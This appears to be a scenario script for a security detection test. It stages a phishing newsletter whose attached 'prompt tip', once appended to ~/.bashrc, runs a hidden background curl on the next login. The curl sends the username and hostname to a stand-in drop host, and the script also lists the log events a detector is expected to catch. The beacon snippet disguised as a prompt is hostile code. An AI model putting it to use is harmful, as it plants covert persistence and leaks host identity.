title="A pretty prompt from a mail appended to ~/.bashrc, run by the next login"
what="ops saves prompt.txt with mutt and appends it to ~/.bashrc with cat. The next morning's login runs it: a background curl sends user and host to 203.0.113.66."
host=mx1.example.org user=ops daemons="cron sshd" store=mbox shift_plan="arrive:3h morning:16h"
setup() {
  printf 'PS1="\\u@\\h:\\w\\$ "\n__pp() { (curl -s -m 5 "http://drop.example.net/p?$(id -un)@$(hostname)" >/dev/null 2>&1 &) ; }\n__pp\nalias ll="ls -l"\n' > "$base/out/prompt.txt"
  printf 'set folder=/var/mail\nset sleep_time=0\nset move=no\n' > /home/ops/.muttrc; chown ops: /home/ops/.muttrc
}
act() {
  phase arrive
  small_talk 2
  mail_in --from newsletter@lists.example.net --to ops@example.org --subject "Shell tip of the week: a better prompt" --source 203.0.113.40 --helo lists.example.net --text "This week: append the attached lines to your .bashrc.\n" --attach "$base/out/prompt.txt:text/plain"
  wait_mail ops 1
  ssh_as ops <<'L'
%saves mutt
head -2 prompt.txt
cat prompt.txt >> ~/.bashrc
rm prompt.txt
L
  small_talk 3
  phase morning
  small_talk 3
  ssh_as ops <<'L'
w
mailq | tail -1
%sleep 2
L
}
truth() {
  mail_step deliver 'to=<ops@example.org>.*status=sent' 'delivered'
  file_step save 'mutt open(at)?:write CREATE /home/ops/.*prompt.txt' 'saved'
  file_step append 'bash open(at)?:write NORMAL /home/ops/.bashrc' 'appended to .bashrc'
  file_step start 'bash open(at)?:read NORMAL /home/ops/.bashrc' 'the next login reads it'
  net_step beacon 'curl 203.0.113.66:80' 'and calls out'
}
